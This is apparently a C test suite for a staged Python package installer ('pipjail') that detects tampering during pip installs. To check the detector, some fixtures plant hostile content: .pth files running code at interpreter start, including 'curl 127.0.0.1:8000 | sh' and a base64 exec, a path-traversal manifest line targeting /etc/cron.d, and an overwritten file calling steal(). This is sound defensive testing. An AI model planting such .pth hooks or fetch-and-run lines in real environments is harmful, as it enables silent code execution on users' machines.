/* Staged install, end to end on a real overlayfs (run as root).  A fake
 * venv is the lower layer; the test writes into the merged view what pip
 * would (a wheel's files, its dist-info with a RECORD of real hashes, an
 * uninstall), unmounts, then scans, checks, commits or discards, and
 * compares whole trees: after a commit the real venv must equal the merged
 * view, after a discard it must equal what it was. */
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "stage/journal.h"
#include "stage/stage.h"
#include "base/base.h"
#include "../unit.h"
#include "stage_fixture.h"

/* Collect violations. */
struct seen {
	int n;
	char ev[16][1024];
	char rule[16][64];
};

static void on_report(void *ctx, const struct stage_finding *v)
{
	struct seen *s = ctx;

	if (s->n < 16) {
		snprintf(s->ev[s->n], sizeof(s->ev[0]), "%s", v->evidence);
		snprintf(s->rule[s->n], sizeof(s->rule[0]), "%s", v->rule);
	}
	s->n++;
}

static uint32_t fake_writer(void *ctx, const char *abs)
{
	(void)ctx;
	return strstr(abs, "evil") ? 4242 : 7;
}

static bool seen_has(const struct seen *s, const char *needle)
{
	for (int i = 0; i < s->n && i < 16; i++)
		if (strstr(s->ev[i], needle))
			return true;
	return false;
}

static int scan_check(struct stage *s, struct seen *seen, const struct stage_check_opts *opts)
{
	char err[512];
	struct stage_hooks h = { .report = on_report, .writer_of = fake_writer, .ctx = seen };

	memset(seen, 0, sizeof(*seen));
	if (stage_scan(s, err, sizeof(err)) < 0) {
		CHECK(0, "stage_scan: %s", err);
		return -1;
	}
	return stage_check(s, opts, &h);
}

static void dump_seen(const struct seen *s)
{
	for (int i = 0; i < s->n && i < 16; i++)
		fprintf(stderr, "  violation: %s\n", s->ev[i]);
}

/* ---- the cases ---- */

static const struct tfile beta[] = {
	{ "beta/__init__.py", "from .x import y\n", 0 },
	{ "beta/x.py", "y = 2\n", 0 },
	{ "beta/__pycache__/x.cpython-311.pyc", "pyc-x\n", 0 },
	{ "beta/sub/deep/z.py", "z = 3\n", 0 },
	{ "beta-extra.pth", "/opt/beta-extra\n", 0 },
	{ "../../../bin/beta", "#!/venv/bin/python\nimport beta\n", 0755 },
};

/* (1) a clean install commits, and the venv equals the merged view. */
static void test_clean_install(void)
{
	struct stage *s;
	struct seen seen;
	autofree char *want = NULL, *got = NULL;
	char err[512];
	int n;

	fresh_venv();
	s = stage_up();
	install(merged, "beta", "0.1", beta, ARRAY_SIZE(beta), NULL);
	/* pip writes these without RECORD rows of their own */
	{
		autofree char *p = xasprintf("%s/%s/beta-0.1.dist-info/direct_url.json", merged, SP);
		autofree char *pyc = xasprintf("%s/%s/beta/__pycache__/__init__.cpython-311.pyc", merged, SP);

		writef(p, "{\"url\": \"file:///tmp/beta\"}\n", 0);
		writef(pyc, "pyc-init\n", 0);
	}
	want = snapshot(merged);
	stage_down();
	n = scan_check(s, &seen, NULL);
	CHECK(n == 0, "a clean install has no violations (got %d)", n);
	if (n)
		dump_seen(&seen);
	{
		const struct stage_result *r = stage_result(s);
		bool found = false;

		for (size_t i = 0; i < r->n_dists; i++)
			if (!strcmp(r->dists[i].name, "beta")) {
				found = true;
				CHECK(r->dists[i].installed && !r->dists[i].removed, "beta is installed");
				/* 6 files, METADATA WHEEL INSTALLER REQUESTED RECORD, direct_url, pyc */
				CHECK_INT_EQ(r->dists[i].n_added, 13);
			}
		CHECK(found, "beta is in the result");
	}
	CHECK(stage_commit(s, err, sizeof(err)) == 0, "commit: %s", err);
	stage_discard(s);
	got = snapshot(venv);
	CHECK(strcmp(want, got) == 0, "after commit the venv equals the merged view:\n--- merged\n%s--- venv\n%s", want, got);
	CHECK_INT_EQ(count_stages(), 0);
}

static const struct tfile alpha2[] = {
	{ "alpha/__init__.py", "VERSION = '2.0'\n", 0 },
	{ "alpha/core.py", "def f():\n    return 2\n", 0 },
	{ "alpha/new.py", "# new in 2.0\n", 0 },
	{ "alpha/__pycache__/core.cpython-311.pyc", "pyc-core-2\n", 0 },
	{ "alpha/data/table.txt", "a table\n", 0 },
	{ "../../../bin/alpha", "#!/venv/bin/python\nimport alpha # 2\n", 0755 },
};

/* The upgrade as pip does it, in the merged view; rmtree_pkg: remove the
 * whole package directory first (then it comes back opaque). */
static void do_upgrade(bool rmtree_pkg)
{
	uninstall(merged, "alpha", "1.0");
	if (rmtree_pkg) {
		autofree char *p = xasprintf("%s/%s/alpha", merged, SP);

		rmtree_at(AT_FDCWD, p);
	}
	install(merged, "alpha", "2.0", alpha2, ARRAY_SIZE(alpha2), NULL);
}

/* (2) upgrade and uninstall commit to exactly the merged view. */
static void test_upgrade_uninstall(void)
{
	for (int variant = 0; variant < 3; variant++) {
		struct stage *s;
		struct seen seen;
		autofree char *want = NULL, *got = NULL;
		char err[512];
		int n;

		fresh_venv();
		s = stage_up();
		if (variant < 2)
			do_upgrade(variant == 1);
		else
			uninstall(merged, "alpha", "1.0");
		want = snapshot(merged);
		stage_down();
		n = scan_check(s, &seen, NULL);
		CHECK(n == 0, "variant %d: upgrade/uninstall has no violations (got %d)", variant, n);
		if (n)
			dump_seen(&seen);
		{
			const struct stage_result *r = stage_result(s);
			int removed = 0, installed = 0;

			for (size_t i = 0; i < r->n_dists; i++) {
				removed += r->dists[i].removed;
				installed += r->dists[i].installed;
			}
			CHECK(removed == 1 && installed == (variant < 2 ? 1 : 0),
			      "variant %d: one removed, %d installed (got %d, %d)", variant,
			      variant < 2, removed, installed);
		}
		CHECK(stage_commit(s, err, sizeof(err)) == 0, "variant %d: commit: %s", variant, err);
		stage_discard(s);
		got = snapshot(venv);
		CHECK(strcmp(want, got) == 0, "variant %d: the venv equals the merged view:\n--- merged\n%s--- venv\n%s",
		      variant, want, got);
		CHECK_INT_EQ(count_stages(), 0);
	}
}

/* (3) an undeclared .pth (and friends) is reported, and discard leaves the venv as it was. */
static void test_undeclared(void)
{
	static const struct tfile pthdist[] = {
		{ "gamma/__init__.py", "", 0 },
		{ "gamma-init.pth", "import os; os.system('id')\n", 0 },
		{ "distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n", 0 },
	};
	struct stage *s;
	struct seen seen;
	autofree char *before = NULL, *after = NULL;
	int n;

	fresh_venv();
	before = snapshot(venv);
	s = stage_up();
	install(merged, "beta", "0.1", beta, ARRAY_SIZE(beta), NULL);
	install(merged, "gamma", "1.0", pthdist, ARRAY_SIZE(pthdist), NULL);
	{
		autofree char *evil = xasprintf("%s/%s/evil.pth", merged, SP);
		autofree char *sc = xasprintf("%s/%s/sitecustomize.py", merged, SP);
		autofree char *tamper = xasprintf("%s/%s/beta/x.py", merged, SP);
		autofree char *outside = xasprintf("%s/bin/evil-helper", merged);

		writef(evil, "# looks harmless\nimport base64; exec(base64.b64decode('cHJpbnQoMSk='))\n", 0);
		writef(sc, "print('hi')\n", 0);
		writef(tamper, "y = 9\n", 0); /* same size: only the hash tells */
		writef(outside, "#!/bin/sh\n", 0755);
	}
	stage_down();
	n = scan_check(s, &seen, NULL);
	CHECK(n == 6, "6 violations: evil.pth, sitecustomize.py, beta/x.py, bin/evil-helper, gamma-init.pth, "
	      "distutils-precedence.pth (got %d)", n);
	dump_seen(&seen);
	CHECK(seen_has(&seen, "evil.pth: .pth file not in a RECORD; it runs code"), "the .pth is reported with why");
	CHECK(seen_has(&seen, "import base64; exec"), "the .pth's code is in the evidence");
	CHECK(seen_has(&seen, "sitecustomize.py not in a RECORD"), "sitecustomize.py");
	CHECK(seen_has(&seen, "beta/x.py: hash mismatch with RECORD of beta 0.1"), "tampered file");
	CHECK(seen_has(&seen, "bin/evil-helper: not in any RECORD"), "a file outside the declared layout");
	CHECK(seen_has(&seen, "gamma-init.pth: .pth file (in RECORD of gamma 1.0) runs code"),
	      "a declared .pth that runs code is reported");
	CHECK(seen_has(&seen, "distutils-precedence.pth: .pth file (in RECORD of gamma 1.0) runs code"),
	      "a name allows nothing: gamma's distutils-precedence.pth is not setuptools'");
	for (int i = 0; i < seen.n && i < 16; i++)
		CHECK_STR_EQ(seen.rule[i], strstr(seen.ev[i], ".pth (in RECORD") || strstr(seen.ev[i], ".pth: .pth file (in")
			     ? "pth-code" : "undeclared-file");
	{
		const struct stage_result *r = stage_result(s);
		bool attributed = false;

		for (size_t i = 0; i < r->n_files; i++)
			if (strstr(r->files[i].path, "evil.pth"))
				attributed = r->files[i].writer == 4242;
		CHECK(attributed, "the .pth is attributed to its writer");
	}
	stage_discard(s);
	after = snapshot(venv);
	CHECK(strcmp(before, after) == 0, "discard leaves the venv byte for byte as it was");
	CHECK_INT_EQ(count_stages(), 0);
}

/* A directory of the environment kept in place with another mode: a
 * finding (meta-change), never committed; a clean install beside it is
 * still judged as usual. */
static void test_meta_change(void)
{
	struct stage *s;
	struct seen seen;
	autofree char *before = NULL, *after = NULL;
	int n;

	fresh_venv();
	before = snapshot(venv);
	s = stage_up();
	install(merged, "beta", "0.1", beta, ARRAY_SIZE(beta), NULL);
	{
		autofree char *site = xasprintf("%s/%s", merged, SP);
		autofree char *bin = xasprintf("%s/bin", merged);

		CHECK(chmod(site, 0777) == 0, "chmod site-packages in the merged view");
		CHECK(chmod(bin, 0775) == 0, "chmod bin in the merged view");
	}
	stage_down();
	n = scan_check(s, &seen, NULL);
	dump_seen(&seen);
	CHECK(n == 2, "2 violations: site-packages and bin (got %d)", n);
	CHECK(seen_has(&seen, SP ": a directory of the environment got mode 0755 -> 0777 (world-writable"),
	      "site-packages 0777 is reported, world-writable");
	CHECK(seen_has(&seen, "/bin: a directory of the environment got mode 0755 -> 0775"), "bin 0775 is reported");
	for (int i = 0; i < seen.n && i < 16; i++)
		CHECK_STR_EQ(seen.rule[i], "meta-change");
	stage_discard(s);
	after = snapshot(venv);
	CHECK(strcmp(before, after) == 0, "discard leaves the venv byte for byte as it was");
	CHECK_INT_EQ(count_stages(), 0);
}

/* (4) a distribution that overwrites (or deletes) another one's files. */
static void test_clobber(void)
{
	static const struct tfile clob[] = {
		{ "delta/__init__.py", "", 0 },
		{ "alpha/core.py", "def f():\n    steal()\n", 0 },
	};
	struct stage *s;
	struct seen seen;
	autofree char *before = NULL;
	int n;

	fresh_venv();
	before = snapshot(venv);
	s = stage_up();
	install(merged, "delta", "1.0", clob, ARRAY_SIZE(clob), NULL);
	{
		autofree char *p = xasprintf("%s/%s/alpha/data/table.txt", merged, SP);

		unlink(p);
	}
	stage_down();
	n = scan_check(s, &seen, NULL);
	CHECK(n == 2, "2 violations (got %d)", n);
	dump_seen(&seen);
	CHECK(seen_has(&seen, "alpha/core.py: changes a file owned by distribution alpha 1.0"),
	      "the overwrite names the owner even though delta's RECORD lists it");
	CHECK(seen_has(&seen, "alpha/data/table.txt: removes a file owned by distribution alpha 1.0"),
	      "deleting another distribution's file");
	stage_discard(s);
	{
		autofree char *after = snapshot(venv);

		CHECK(strcmp(before, after) == 0, "discard leaves the venv as it was");
	}
}

static const struct stage_dist *find_dist_named(const struct stage *s, const char *name)
{
	const struct stage_result *r = stage_result(s);

	for (size_t i = 0; i < r->n_dists; i++)
		if (r->dists[i].name && !strcmp(r->dists[i].name, name))
			return &r->dists[i];
	return NULL;
}

/* (7) legacy `setup.py install`: the egg-info's installed-files.txt is the
 * manifest of what this run installed; every other rule still holds. */
static void test_legacy(void)
{
	/* A clean one: no violations, in the distribution list, committed. */
	{
		struct stage *s;
		struct seen seen;
		autofree char *want = NULL, *got = NULL;
		const struct stage_dist *d;
		char err[512];
		int n;

		fresh_venv();
		s = stage_up();
		legacy_install(merged, "legacy_demo-1.0-py3.11.egg-info",
			       "Metadata-Version: 2.1\nName: legacy-demo\nSummary: x\n\nVersion: 9\nName: nope\n",
			       legacy1, ARRAY_SIZE(legacy1), NULL);
		{
			/* a .pyc compiled later for a listed source, not listed itself */
			autofree char *pyc = xasprintf("%s/%s/__pycache__/legacy_demo.cpython-311.pyc", merged, SP);

			writef(pyc, "pyc\n", 0);
		}
		want = snapshot(merged);
		stage_down();
		n = scan_check(s, &seen, NULL);
		CHECK(n == 0, "a legacy install has no violations (got %d)", n);
		if (n)
			dump_seen(&seen);
		d = find_dist_named(s, "legacy-demo");
		CHECK(d != NULL, "the legacy install is in the distribution list, named from PKG-INFO");
		CHECK(find_dist_named(s, "nope") == NULL, "PKG-INFO's description is not read as headers");
		if (d) {
			CHECK_STR_EQ(d->version, "1.0");
			CHECK(d->installed && !d->removed && d->legacy, "installed, legacy");
			CHECK_STR_EQ(d->dist_info, SP "/legacy_demo-1.0-py3.11.egg-info");
			/* 4 files + 1 pyc + PKG-INFO, SOURCES, top_level, dependency_links, installed-files */
			CHECK_INT_EQ(d->n_added, 10);
		}
		{
			char *text = NULL;
			size_t tlen = 0;
			FILE *f = open_memstream(&text, &tlen);

			stage_report_text(s, f, NULL);
			fclose(f);
			CHECK(strstr(text, "legacy-demo 1.0 (installed, legacy setup.py install: files listed, no hashes): 10 added") != NULL,
			      "the report says it is a legacy install:\n%s", text);
			free(text);
		}
		CHECK(stage_commit(s, err, sizeof(err)) == 0, "commit: %s", err);
		stage_discard(s);
		got = snapshot(venv);
		CHECK(strcmp(want, got) == 0, "after commit the venv equals the merged view");
	}
	/* One whose manifest lists what it planted: a .pth that runs code, a
	 * sitecustomize.py, another distribution's file; plus a file it does
	 * not list, and a line that leaves the target. */
	{
		static const struct tfile evil[] = {
			{ "evil_legacy.py", "x = 1\n", 0 },
			{ "evil.pth", "import os; os.system('curl 127.0.0.1:8000 | sh')\n", 0 },
			{ "sitecustomize.py", "import evil_legacy\n", 0 },
			{ "alpha/core.py", "def f():\n    steal()\n", 0 },
		};
		struct stage *s;
		struct seen seen;
		autofree char *before = NULL, *after = NULL;
		const struct stage_dist *d;
		int n;

		fresh_venv();
		before = snapshot(venv);
		s = stage_up();
		legacy_install(merged, "evil_legacy-2.0-py3.11.egg-info", NULL, evil, ARRAY_SIZE(evil),
			       "../../../../../../../../etc/cron.d/evil\n/etc/passwd\n");
		{
			autofree char *p = xasprintf("%s/%s/unlisted_evil.py", merged, SP);

			writef(p, "print('not listed')\n", 0);
		}
		stage_down();
		n = scan_check(s, &seen, NULL);
		dump_seen(&seen);
		CHECK(n == 4, "4 violations: evil.pth, sitecustomize.py, alpha/core.py, unlisted_evil.py (got %d)", n);
		CHECK(seen_has(&seen, "evil.pth: .pth file (in installed-files.txt of evil_legacy 2.0) runs code at every interpreter start"),
		      "a listed .pth that runs code is still reported");
		CHECK(seen_has(&seen, "curl 127.0.0.1:8000"), "with its code");
		CHECK(seen_has(&seen, "sitecustomize.py: sitecustomize.py (in installed-files.txt of evil_legacy 2.0) runs at every"),
		      "a listed sitecustomize.py is still reported");
		CHECK(seen_has(&seen, "alpha/core.py: changes a file owned by distribution alpha 1.0 (its RECORD)"),
		      "listing another distribution's file does not make it yours");
		CHECK(seen_has(&seen, "unlisted_evil.py: not in any RECORD"), "a file the manifest does not list");
		d = find_dist_named(s, "evil_legacy");
		CHECK(d != NULL && d->legacy && d->installed && !strcmp(d->version, "2.0"),
		      "named from the egg-info directory when there is no PKG-INFO");
		{
			const struct stage_result *r = stage_result(s);
			uint32_t w = 0;

			for (size_t i = 0; i < r->n_files; i++)
				if (!strcmp(r->files[i].path, SP "/evil.pth"))
					w = r->files[i].writer;
			CHECK_INT_EQ(w, 4242);
		}
		stage_discard(s);
		after = snapshot(venv);
		CHECK(strcmp(before, after) == 0, "discard leaves the venv as it was");
	}
	/* Uninstalling a legacy install: its listed files and its egg-info go. */
	{
		struct stage *s;
		struct seen seen;
		const struct stage_dist *d;
		autofree char *egg = xasprintf("%s/%s/legacy_demo-1.0-py3.11.egg-info", merged, SP);
		int n;

		fresh_venv();
		legacy_install(venv, "legacy_demo-1.0-py3.11.egg-info", "Name: legacy-demo\nVersion: 1.0\n",
			       legacy1, ARRAY_SIZE(legacy1), NULL);
		s = stage_up();
		for (size_t i = 0; i < ARRAY_SIZE(legacy1); i++) {
			autofree char *p = xasprintf("%s/%s/%s", merged, SP, legacy1[i].path);

			unlink(p);
		}
		rmtree_at(AT_FDCWD, egg);
		stage_down();
		n = scan_check(s, &seen, NULL);
		CHECK(n == 0, "uninstalling a legacy install has no violations (got %d)", n);
		if (n)
			dump_seen(&seen);
		d = find_dist_named(s, "legacy-demo");
		CHECK(d != NULL && d->removed && !d->installed && d->n_removed == 9,
		      "listed as removed with its 9 files (%zu)", d ? d->n_removed : 0);
		stage_discard(s);
	}
}

/* (5) a commit stopped after each possible number of operations, rolled
 * forward (equals the uninterrupted result) or back (equals the old venv);
 * and a failing commit that rolls itself back. */
static void test_interrupted(void)
{
	long stops = 0;

	for (int mode = 0; mode < 3; mode++) {
		for (long k = 0;; k++) {
			struct stage *s;
			struct seen seen;
			autofree char *old = NULL, *want = NULL, *got = NULL, *dir = NULL;
			char err[512] = "";
			int r;

			fresh_venv();
			old = snapshot(venv);
			s = stage_up();
			do_upgrade(true);
			install(merged, "beta", "0.1", beta, ARRAY_SIZE(beta), NULL);
			want = snapshot(merged);
			stage_down();
			CHECK_INT_EQ(scan_check(s, &seen, NULL), 0);
			dir = xstrdup(stage_dir(s));
			test_failpoints.commit_fail_after = k;
			test_failpoints.commit_fail_crash = mode < 2;
			r = stage_commit(s, err, sizeof(err));
			test_failpoints.commit_fail_after = -1;
			test_failpoints.commit_fail_crash = false;
			stage_discard(s);
			if (r == 0) {
				/* k went past the last operation: nothing stopped. */
				got = snapshot(venv);
				CHECK(strcmp(want, got) == 0, "mode %d: uninterrupted commit", mode);
				CHECK_INT_EQ(count_stages(), 0);
				break;
			}
			stops++;
			if (mode == 2) {
				/* Not a crash: commit rolled back by itself. */
				got = snapshot(venv);
				CHECK(strcmp(old, got) == 0, "failure at op %ld: commit rolled back to the old venv", k);
				CHECK_INT_EQ(count_stages(), 0);
				continue;
			}
			CHECK_INT_EQ(count_stages(), 1);
			r = stage_recover_dir(dir, mode == 1, NULL, err, sizeof(err));
			CHECK(r == 0, "recover after op %ld: %s", k, err);
			got = snapshot(venv);
			if (mode == 0)
				CHECK(strcmp(want, got) == 0, "crash after op %ld, rolled forward: equals the full commit:\n--- want\n%s--- got\n%s", k, want, got);
			else
				CHECK(strcmp(old, got) == 0, "crash after op %ld, rolled back: equals the old venv:\n--- want\n%s--- got\n%s", k, old, got);
			CHECK_INT_EQ(count_stages(), 0);
			/* Recover again: nothing left to do. */
			CHECK(stage_recover_dir(dir, false, NULL, err, sizeof(err)) < 0, "the stage is gone");
			if (k > 400)
				break;
		}
	}
	CHECK(stops > 40, "the interruption was tried at many points (%ld)", stops);
}

/* A stage left by a run that never committed (pipjail died during the
 * run): recover removes it and the venv is untouched; a stage in use by a
 * live run is left alone. */
static void test_recover_uncommitted(void)
{
	struct stage *s;
	autofree char *before = NULL, *after = NULL;
	char err[512], dir[512] = "";
	int pfd[2], st;
	pid_t pid;

	fresh_venv();
	before = snapshot(venv);
	s = stage_up();
	stage_down();
	CHECK_INT_EQ(stage_recover_dir(stage_dir(s), false, NULL, err, sizeof(err)), 1);
	stage_discard(s);

	if (pipe(pfd) < 0)
		die_errno("pipe");
	fflush(NULL);
	pid = fork();
	if (pid == 0) {
		s = stage_up();
		install(merged, "beta", "0.1", beta, ARRAY_SIZE(beta), NULL);
		stage_down();
		if (write(pfd[1], stage_dir(s), strlen(stage_dir(s))) < 0)
			_exit(2);
		_exit(0); /* dies without commit or discard */
	}
	close(pfd[1]);
	if (read(pfd[0], dir, sizeof(dir) - 1) <= 0)
		die("the child did not say where its stage is");
	close(pfd[0]);
	waitpid(pid, &st, 0);
	CHECK_INT_EQ(count_stages(), 1);
	CHECK(stage_recover_dir(dir, false, NULL, err, sizeof(err)) == 0, "recover: %s", err);
	after = snapshot(venv);
	CHECK(strcmp(before, after) == 0, "venv untouched");
	CHECK_INT_EQ(count_stages(), 0);
}

/* recover refuses a stage that pipjail did not make, and a target that
 * was swapped for another directory after the crash. */
static void test_recover_refuses(void)
{
	struct stage *s;
	struct seen seen;
	autofree char *dir = NULL, *moved = xasprintf("%s.moved", venv);
	autofree char *fake = xasprintf("%s/.pipjail-stage.venv.fake", root);
	autofree char *want = NULL, *got = NULL;
	char err[512] = "";

	fresh_venv();
	s = stage_up();
	install(merged, "beta", "0.1", beta, ARRAY_SIZE(beta), NULL);
	want = snapshot(merged);
	stage_down();
	CHECK_INT_EQ(scan_check(s, &seen, NULL), 0);
	dir = xstrdup(stage_dir(s));
	test_failpoints.commit_fail_after = 3;
	test_failpoints.commit_fail_crash = true;
	CHECK(stage_commit(s, err, sizeof(err)) < 0, "stopped");
	test_failpoints.commit_fail_after = -1;
	test_failpoints.commit_fail_crash = false;
	stage_discard(s);

	if (rename(venv, moved) < 0 || mkdir(venv, 0755) < 0)
		die_errno("swap %s", venv);
	CHECK(stage_recover_dir(dir, false, NULL, err, sizeof(err)) < 0 && strstr(err, "not the directory"),
	      "a swapped target is refused: %s", err);
	if (rmdir(venv) < 0 || rename(moved, venv) < 0)
		die_errno("swap back %s", venv);
	CHECK(stage_recover_dir(dir, false, NULL, err, sizeof(err)) == 0, "recover: %s", err);
	got = snapshot(venv);
	CHECK(strcmp(want, got) == 0, "rolled forward after the refusal");

	/* A journal in a directory anyone could have written. */
	rmtree_at(AT_FDCWD, fake);
	if (mkdir(fake, 0777) < 0 || chmod(fake, 0777) < 0)
		die_errno("mkdir %s", fake);
	CHECK(stage_recover_dir(fake, false, NULL, err, sizeof(err)) < 0 && strstr(err, "not a stage made by pipjail"),
	      "a world-writable stage is refused: %s", err);
	rmtree_at(AT_FDCWD, fake);
	CHECK_INT_EQ(count_stages(), 0);
}

/* (6) dry run: the change list per distribution; nothing changes. */
static void test_dry_run(void)
{
	struct stage *s;
	struct seen seen;
	autofree char *before = NULL, *after = NULL;
	char *text = NULL;
	size_t tlen = 0;
	FILE *f;
	cJSON *obj;

	fresh_venv();
	before = snapshot(venv);
	s = stage_up();
	do_upgrade(false);
	install(merged, "beta", "0.1", beta, ARRAY_SIZE(beta), NULL);
	stage_down();
	CHECK_INT_EQ(scan_check(s, &seen, NULL), 0);
	f = open_memstream(&text, &tlen);
	stage_report_text(s, f, NULL);
	fclose(f);
	CHECK(strstr(text, "alpha 2.0 (installed): 6 added, 4 changed, 0 removed") != NULL, "alpha 2.0 line:\n%s", text);
	CHECK(strstr(text, "alpha 1.0 (removed): 0 added, 0 changed, 6 removed") != NULL, "alpha 1.0 line:\n%s", text);
	CHECK(strstr(text, "beta 0.1 (installed): 11 added") != NULL, "beta line:\n%s", text);
	/* alpha/data/table.txt was removed and written again unchanged: no change to list. */
	CHECK(strstr(text, "table.txt") == NULL, "an unchanged rewrite is not a change:\n%s", text);
	free(text);
	obj = cJSON_CreateObject();
	stage_report_json(s, obj);
	{
		char *js = cJSON_PrintUnformatted(obj);

		CHECK(js && strstr(js, "\"name\":\"beta\"") && strstr(js, "/alpha/old.py\"") &&
		      strstr(js, "\"undeclared\":[]"), "json: %s", js ? js : "(null)");
		free(js);
	}
	cJSON_Delete(obj);
	stage_discard(s);
	after = snapshot(venv);
	CHECK(strcmp(before, after) == 0, "a dry run changes nothing");
	CHECK_INT_EQ(count_stages(), 0);
}

int main(void)
{
	if (geteuid() != 0) {
		printf("test_stage: skipped (needs root for overlayfs)\n");
		return 0;
	}
	fixture_start();
	test_clean_install();
	test_upgrade_uninstall();
	test_undeclared();
	test_meta_change();
	test_clobber();
	test_interrupted();
	test_recover_uncommitted();
	test_recover_refuses();
	test_dry_run();
	test_legacy();
	fixture_end();
	return unit_summary("test_stage");
}
